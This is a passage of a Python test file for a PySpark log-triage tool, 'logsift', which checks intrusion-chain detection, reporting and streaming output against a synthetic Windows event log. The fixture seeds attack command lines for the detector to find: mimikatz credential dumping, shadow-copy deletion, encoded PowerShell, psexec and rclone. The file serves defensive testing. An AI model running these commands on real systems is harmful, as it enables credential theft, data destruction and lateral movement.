    usual = spark.range(n).withColumnRenamed("id", "i").select(
        day.alias("at"), F.concat(F.lit("WS-"), F.col("i") % 60).alias("computer"), F.concat(F.lit("user"), F.col("i") % 40).alias("account"),
        F.element_at(F.array(*[F.lit(x) for x in ("4624", "4688", "5156", "4663", "4634")]), (kind + 1).cast("int")).alias("eventid"),
        F.lit("winword.exe").alias("processname"), F.concat(F.lit("open document "), F.col("i")).alias("commandline"),
    )
    bad = ["powershell -enc SQBFAFgA", "whoami /all", "mimikatz sekurlsa::logonpasswords", "vssadmin delete shadows", "psexec \\\\dc cmd", "rclone copy x"]
    rows = [(1_767_571_200 + 10 * 86_400 + 7260 + 200 * k, "WS-SCALE-13", "user7", "4688", "cmd.exe", bad[k % 6]) for k in range(12)]
    both = usual.union(spark.createDataFrame(rows, "at long, computer string, account string, eventid string, processname string, commandline string"))
    from logsift.sources.tables import with_row_num

    df = with_row_num(both.select(F.date_format(F.timestamp_seconds("at"), "yyyy-MM-dd'T'HH:mm:ss'Z'").alias("timegenerated"), "computer", "account", "eventid", "processname", "commandline"))
    return df, clean_headers(["TimeGenerated", "Computer", "Account", "EventID", "ProcessName", "CommandLine"])


def test_whole_triage_and_report(spark, tmp_path):
    df, meta = intrusion(spark)
    df = df.cache()
    found = triage.triage(df, meta)
    assert [s for _, s, _ in found.steps] == ["ran"] * 7, found.steps
    best = found.chains.orderBy("chain_id").first()
    assert best["host"] == "WS-SCALE-13" and best["tactic_count"] >= 4 and best["rows"] == 12
    assert found.activity.count() == 2012 and found.activity.select("category").distinct().count() >= 4
    tables = triage.report_tables(df, found)
    assert list(tables)[0] == "General" and list(tables)[-1] == "Row by Row" and {"Timeline", "Attack Story", "Anomalies", "Activity Summary"} <= set(tables)
    paths = write_report({k: tables[k] for k in ("General", "Timeline", "Row by Row")}, str(tmp_path))
    assert spark.read.parquet(paths["Row by Row"]).count() == 2012
    lines = triage.narrative(found)
    assert lines[0][0] == "headline" and any("WS-SCALE-13" in x for s, x, _ in lines if s == "chains")
    assert triage.dataset_profile(df, meta, found.roles, found.row_time).filter("item = 'rows'").first()["rows"] == 2012
    broken = triage.triage(df.select("row_num"), meta)
    assert "failed" in {s for _, s, _ in broken.steps}
    df.unpersist()


def test_streams_equal_batches(spark, tmp_path):
    from logsift.streaming import stream

    df, meta = intrusion(spark, 300)
    df.repartition(3).write.parquet(str(tmp_path / "in"))
    source = spark.readStream.schema(df.schema).option("maxFilesPerTrigger", 1).parquet(str(tmp_path / "in"))
    told = {"command_line": Role("commandline"), "process_name": Role("processname")}

    def run(out, name, mode="append"):
        q = out.writeStream.format("memory").queryName(name).outputMode(mode).option("checkpointLocation", str(tmp_path / name)).start()
        try:
            q.processAllAvailable()
        finally:
            q.stop()
        return sorted(map(str, spark.table(name).collect()))

    assert run(stream.labelled(source, meta, told), "s_labels") == sorted(map(str, activity.classify_activity(df, meta, told).collect()))
    assert run(stream.matched(source, matching.load_library(), meta, told), "s_matches") == sorted(map(str, matching.scan(df, matching.load_library(), meta, told).collect()))
    timed = source.withColumn("at", F.to_timestamp("timegenerated", "yyyy-MM-dd'T'HH:mm:ssXXX"))
    modes = {m.name: "text" if m.name == "commandline" else "exact_only" for m in meta}
    assert len(run(stream.new_documents(timed, meta, modes, "at", "100 days"), "s_docs")) == documents.build_documents(df, meta, modes=modes)[0].count()
    assert run(stream.count_by_window(timed, "at", "eventid", "1 hour", "100 days"), "s_counts", "complete")


def test_chains_of_a_stream(spark, tmp_path):
    from logsift.streaming import stream

    events = [("a", t, f"2026-01-01 0{h}:{m:02d}:00") for t, h, m in (("x", 0, 0), ("y", 0, 10), ("z", 0, 50), ("x", 2, 0), ("y", 2, 30), ("x", 4, 0), ("y", 4, 20), ("z", 4, 59))] + [("b", "x", "2026-01-01 00:00:00"), ("b", "y", "2026-01-01 09:00:00")]
    df = spark.createDataFrame(events, "host string, tactic_id string, s string").select("host", "tactic_id", F.to_timestamp("s").alias("at"))
    df.filter("at < timestamp'2026-01-01 08:00:00'").coalesce(1).write.parquet(str(tmp_path / "in"))
    source = spark.readStream.schema(df.schema).parquet(str(tmp_path / "in"))
    q = stream.chains_by_host(source, "at").writeStream.format("memory").queryName("s_chains").outputMode("append").option("checkpointLocation", str(tmp_path / "c")).start()
    try:
        q.processAllAvailable()
        df.filter("at >= timestamp'2026-01-01 08:00:00'").coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
        q.processAllAvailable()
        q.processAllAvailable()
    finally:
        q.stop()
    got = [(r["host"], r["tactic_count"], r["event_count"]) for r in spark.table("s_chains").orderBy("first_epoch_ms").collect()]
    assert got == [("a", 3, 3), ("a", 3, 3)]


def test_every_query_has_its_names(spark, small):
    import duckdb

    from logsift.plans import catalog

    assert set(catalog.ORACLE) <= set(catalog.QUERIES)
    con = duckdb.connect()
    for t in "region nation customer supplier part orders lineitem events documents embeddings pages benchmark labels conversations".split():
        con.execute(f"create view {t} as select * from '{small}/{t}.parquet'")
    for name in ("page_errors", "filter_operators", "keyword_matches", "times_normalized", "anomaly_cells", "ip_rollup"):
        expected = con.sql(catalog.ORACLE[name])
        got = catalog.QUERIES[name](spark, small).select(*expected.columns).collect()
        assert sorted(map(lambda r: tuple(map(str, r)), got)) == sorted(tuple(map(str, r)) for r in expected.fetchall()), name
    assert re.fullmatch(r"[a-z_0-9]+", "".join(catalog.QUERIES))
